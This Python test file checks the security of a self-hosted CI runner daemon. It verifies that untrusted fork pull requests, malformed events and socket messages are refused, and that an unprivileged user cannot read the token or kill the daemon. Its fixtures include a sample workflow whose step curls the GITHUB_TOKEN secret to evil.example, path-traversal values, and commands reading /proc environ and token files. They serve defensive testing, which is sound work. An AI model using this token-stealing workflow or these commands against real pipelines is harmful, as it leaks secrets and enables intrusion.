# SPDX-License-Identifier: Apache-2.0
"""Who knocks: words and labels of people who may not write, events with hostile numbers, messages on the socket, and
workflows that a pull request edits."""

import json
import os
import socket

import lib
import scene
from lib import eq, has, lacks, ok
from test_daemon import jobs
from test_forks import run_line
from world import FORK, Row

EVIL_WORKFLOW = """\
on: [pull_request, pull_request_target]
permissions: write-all
jobs:
  ratchet:
    runs-on: [self-hosted, ratchet]
    steps:
      - run: curl -d "${{ secrets.GITHUB_TOKEN }}" https://evil.example; touch /tmp/%s
"""


class Door:
    """A row that is no plain branch: a function of the world"""

    def __init__(self, name, run, is_branch=False):
        self.name, self.do, self.is_branch = name, run, is_branch

    def __call__(self, w):
        lib.case(self.name)
        step = self.do(w)
        w.check_world(step)


# ---- forks ----

def fork(name, say, why):
    def do(w):
        w.rows += 1
        branch = "fork-%d" % w.rows
        head = w.s.control("POST", "repos/%s/commit" % FORK, {
            "branch": branch, "files": {"ci/ratchet.conf": scene.conf().replace("cc -O2", "touch /tmp/%s; cc -O2" % w.mark),
                                        "README": "%d\n" % w.rows}, "message": "evil", "parent": "main"})["sha"]
        number = w.s.on("pulls", head=branch, head_repo=FORK, title=branch, user="mallory")["number"]
        say(w, number, head)
        step = w.step("pull_request_target", scene.pull_event(w.s, number))
        result = step.run()
        w.settle()
        eq((result.brief(), result.verdict["clause"]), ((3, "unmeasured"), "not-approved"), "it is not run")
        has(scene.plain(result.verdict["reason"]), why, "and why not")
        lacks(result.out, "build head", "nothing is built")
        eq(scene.status(w.s, head)[-1:], ["error"], "its status is neither green nor pending")
        return step
    return Door(name, do, True)


def said(who, body=run_line):
    return lambda w, number, head: w.s.on("comments", issue=number, user=who, body=body(head))


def labeled(who, name="ratchet:run"):
    return lambda w, number, head: w.s.on("pulls/%d/label" % number, name=name, by=who)


# ---- events ----

def event(name, change, words, kind="pull_request", code=64, **env):
    """An event that is refused before anybody at GitHub is asked"""
    def do(w):
        if not hasattr(w, "open"):
            w.open = scene.pull(w.s, "open", {"README": "open\n"})
        good = scene.pull_event(w.s, w.open[0])
        changed = change(w, json.loads(json.dumps(good)))
        step = w.step(kind, changed if changed is not None else good, **env)
        before, known = w.s.requests()[-1]["id"], jobs(w.host)
        result = step.run()
        eq(result.code, code, "the step's exit code")
        has(step.log(), words, "it says what is wrong")
        eq((w.s.requests(since=before), jobs(w.host)), ([], known), "GitHub is not asked, and there is no job")
        return step
    return Door(name, do)


def numbered(value):
    def change(w, good):
        good["number"] = good["pull_request"]["number"] = "NUMBER"
        return json.dumps(good).replace('"NUMBER"', value)
    return change


def keyed(**values):
    def change(w, good):
        for path, value in values.items():
            at, *keys = good, *path.split("__")
            for key in keys[:-1]:
                at = at[key]
            at[keys[-1]] = value
        return good
    return change


# ---- the socket ----

def message(name, data, words='"error"'):
    def do(w):
        known = jobs(w.host)
        got = b""
        with socket.socket(socket.AF_UNIX) as client:
            client.settimeout(30)
            client.connect(w.host.socket)
            try:
                client.sendall(w.fill(data).encode() if isinstance(data, str) else data)
                client.shutdown(socket.SHUT_WR)
                while piece := client.recv(65536):
                    got += piece
            except (BrokenPipeError, ConnectionResetError):
                got += b'"error": reset'
        has(got.decode(errors="replace"), words, "it is refused")
        eq(jobs(w.host), known, "there is no job")
    return Door(name, do)


def submit(**more):
    return json.dumps({"type": "submit", "version": 1, "kind": "check", "repository": scene.REPOSITORY, "pr": 1,
                       "device": "cpu", "run": "1", "attempt": "1", "job": "check", "repository_id": "1",
                       "token": "x", **more}) + "\n"


# ---- a stranger's step on the runner's host ----

def as_another(name, script, words):
    """What a workflow of a stranger's could do as a user who is not the daemon's"""
    def do(w):
        if os.geteuid() != 0:
            lib.skip("needs root to become somebody else", allowed=True)
            return
        run = lib.run(["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", "sh", "-c", w.fill(script).replace(
            "@PID@", str(w.daemon.process.pid))], env=lib.clean_env())
        ok(run.code != 0, "it fails", run)
        has(run.out + run.err, words, "and why")
        lacks(run.out + run.err, lib.TOKEN, "no token")
    return Door(name, do)


def no_file(w, result, number, head):
    eq(w.s.requests("GET", "workflows"), [], "nobody looked at a workflow")


ROWS = [
    fork("a fork and no word", lambda w, number, head: None, "waits for"),
    fork("a fork and its author's word", said("mallory"), "mallory may not write"),
    fork("a fork and a reader's word", said("zoe"), "zoe may not write"),
    fork("a fork and a triager's word", said("tim"), "tim may not write"),
    fork("a fork and a writer's word for another commit", said("alice", lambda sha: run_line(sha[::-1])), "another commit"),
    fork("a fork and a writer's quote", said("alice", lambda sha: "> " + run_line(sha)), "waits for"),
    fork("a fork and a reader's label", labeled("zoe"), "zoe is no person who may write"),
    fork("a fork and a label much like ours", labeled("alice", "ratchet:run "), "waits for"),
    Row("a loss that a reader accepts", {"kernels/attention.c": "#error not today\n"}, (3, "build-failed", "the PR"),
        before=lambda w, number, head: w.s.on("pulls/%d/label" % number, name="ratchet:accept-loss", by="zoe")),
    event("number 0", numbered("0"), "number"),
    event("number -1", numbered("-1"), "number"),
    event("number 2147483648", numbered("2147483648"), "number"),
    event("number 18446744073709551617", numbered("18446744073709551617"), "event"),
    event("number 1e400", numbered("1e400"), "event"),
    event("number 1.5", numbered("1.5"), "number"),
    event("number \"1\"", numbered('"1"'), "number"),
    event("number [1]", numbered("[1]"), "number"),
    event("two numbers", keyed(number=7), "number"),
    event("a number twice", lambda w, good: json.dumps(good)[:-1] + ', "number": 1}', "event"),
    event("folders in an event", lambda w, good: "[" * 100000, "event"),
    event("an event of 5 MiB", lambda w, good: json.dumps(good)[:-1] + " " * (5 << 20) + "}", "longer"),
    event("an event cut in half", lambda w, good: json.dumps(good)[:300], "event"),
    event("a repository that is a path", keyed(repository__full_name="../../etc"), "full_name"),
    event("a repository of lines", keyed(repository__full_name="octo/kernels\n::error::x"), "full_name"),
    event("another repository", keyed(repository__full_name="octo/other"), "octo/other"),
    event("a head that is a path", keyed(pull_request__head__sha="../../../etc/passwd"), "sha"),
    event("a head of 64 digits", keyed(pull_request__head__sha="0" * 64), "sha"),
    event("a run number that is a path", keyed(), "run", GITHUB_RUN_ID="1/../2"),
    event("a job's name that is a path", keyed(), "job", GITHUB_JOB="../../x"),
    event("another API", keyed(), "refused", GITHUB_API_URL="http://evil.example"),
    event("another kind of event", keyed(), "issues", kind="issues"),
    message("no JSON", "hello\n"),
    message("a message without end", b'{"type":"' + b"x" * 300000),
    message("brackets without end", b"[" * 50000 + b"\n"),
    message("a number beyond all", submit(pr=2 ** 70)),
    message("a run that is a path", submit(run="../../x")),
    message("a device that is a path", submit(device="../../etc")),
    message("a ref that is a path", submit(kind="promote", ref="refs/heads/../../x"), "nothing to do"),
    message("a repository that is not here", submit(repository="octo/other")),
    message("an API of its own", submit(api="http://evil.example")),
    as_another("a step that reads the host's token", "cat @TOKEN@", "Permission denied"),
    as_another("a step that reads the queue", "cat @STATE@/queue.db", "Permission denied"),
    as_another("a step that reads the daemon's environment", "cat /proc/@PID@/environ", "Permission denied"),
    as_another("a step that ends the daemon", "kill -9 @PID@", "not permitted"),
    Row("a workflow that takes the token", lambda w: {".github/workflows/gate.yml": EVIL_WORKFLOW % w.mark,
        ".github/actions/ratchet/action.yml": EVIL_WORKFLOW % w.mark, "README": "w\n"}, (0, "not-touched", ""), then=no_file),
]
